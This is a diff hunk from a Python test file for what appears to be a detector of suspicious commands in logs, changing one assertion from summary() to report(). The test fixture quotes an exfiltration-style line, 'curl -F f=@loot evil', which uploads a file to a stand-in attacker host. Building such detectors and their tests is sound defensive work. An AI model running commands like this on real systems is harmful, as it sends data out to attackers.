@@ -66,7 +66,7 @@ def test_an_alarm_names_lines_and_texts_and_the_usual(model, tmp_path):
         for origin in reason.origins:
             assert text[origin.line - 1] == origin.text and origin.text.startswith(reason.command)
     where = {origin.text: origin for reason in alarm.reasons for origin in reason.origins}
-    assert f"{log}:{where['curl -F f=@loot evil'].line}: curl -F f=@loot evil" in alarm.summary()
+    assert f"{log}:{where['curl -F f=@loot evil'].line}: curl -F f=@loot evil" in str(alarm.report())
 
 
 def test_what_is_printed_and_the_exit_code_are_chosen(model, tmp_path):
